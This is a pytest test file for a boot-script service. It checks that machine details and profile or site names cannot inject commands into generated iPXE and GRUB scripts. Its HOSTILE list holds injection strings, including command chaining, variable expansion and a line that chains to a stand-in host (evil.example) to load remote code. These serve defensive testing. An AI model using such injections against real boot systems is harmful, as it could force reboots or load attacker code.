"""No word of a machine, a profile or a site becomes a command of iPXE."""

import re

import pytest
from fastapi import FastAPI
from sqlalchemy import update

from deployflow.boot import script
from deployflow.boot.models import BootSite
from deployflow.platform.context import system_context
from deployflow.profiles.models import Profile
from tests.support.booting import ask, change_site, make_profile
from tests.support.clients import Clients

# Whatever a text may try in iPXE's language.
HOSTILE = [
    "x\nreboot",
    "x\r\nchain http://evil.example/",
    "x || reboot",
    "x && reboot",
    "x ; reboot",
    "${net0/mac}",
    "${${x}}",
    "x # y",
    "--name x",
    "-n",
    "a\tb\x00c",
    "{{local_disk}}",
    "x > y",
    "\"quoted\" 'text' \\n",
    "\u2028reboot",
    "=x",
]


@pytest.mark.usefixtures("environment")
class TestNothingGetsIn:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_a_text_means_nothing(self, text: str) -> None:
        plain = script.text(text)
        assert re.fullmatch(r"[A-Za-z0-9 .,:()+/@_?-]*", plain)
        assert not any(word.startswith("-") for word in plain.split())

    @pytest.mark.parametrize("text", HOSTILE)
    async def test_no_word_of_a_machine_or_profile_becomes_a_command(
        self, app: FastAPI, clients: Clients, site: BootSite, text: str
    ) -> None:
        profile = await make_profile(clients, "Kiosk")
        await change_site(clients, site, name="HQ")
        hostile = {"serial": text, "manufacturer": text, "product": text, "uuid": text, "platform": text}
        calm = dict.fromkeys(hostile, "x")
        for more in ({}, {"profile": str(profile.id)}):
            usual = await ask(app, site, **calm, **more)
            attacked = await ask(app, site, **hostile, **more)
            assert [line.split(" ")[0] for line in attacked.splitlines()] == [
                line.split(" ")[0] for line in usual.splitlines()
            ]
            for known, line in zip(usual.splitlines(), attacked.splitlines(), strict=True):
                assert line.count("${") == known.count("${")
                assert line.count("||") == known.count("||")
                assert line.count("&&") == known.count("&&")
                assert line.count(" --") == known.count(" --")

    @pytest.mark.parametrize("text", HOSTILE)
    async def test_nor_one_of_grub(self, app: FastAPI, clients: Clients, site: BootSite, text: str) -> None:
        profile = await make_profile(clients, "Kiosk")
        hostile = {"serial": text, "manufacturer": text, "product": text, "uuid": text}
        calm = dict.fromkeys(hostile, "x")
        for more in ({}, {"profile": str(profile.id)}):
            usual = await ask(app, site, loader="grub", **calm, **more)
            attacked = await ask(app, site, loader="grub", **hostile, **more)
            for known, line in zip(usual.splitlines(), attacked.splitlines(), strict=True):
                assert line.split(" ")[0] == known.split(" ")[0]
                for mark in "$\"'`\\;|{}<>":
                    assert line.count(mark) == known.count(mark), line

    @pytest.mark.parametrize("text", HOSTILE)
    async def test_no_name_of_a_profile_or_site_becomes_a_command(
        self, app: FastAPI, clients: Clients, site: BootSite, text: str
    ) -> None:
        profile = await make_profile(clients, "Kiosk")
        await change_site(clients, site, name="HQ")
        usual = (await ask(app, site)).splitlines()
        async with clients.db.write(system_context()) as session:
            await session.execute(update(Profile).where(Profile.id == profile.id).values(name=text.replace("\x00", "")))
        await change_site(clients, site, name=text.replace("\x00", ""))
        attacked = (await ask(app, site)).splitlines()
        assert [line.split(" ")[0] for line in attacked] == [line.split(" ")[0] for line in usual]
        assert [line.count("${") for line in attacked] == [line.count("${") for line in usual]
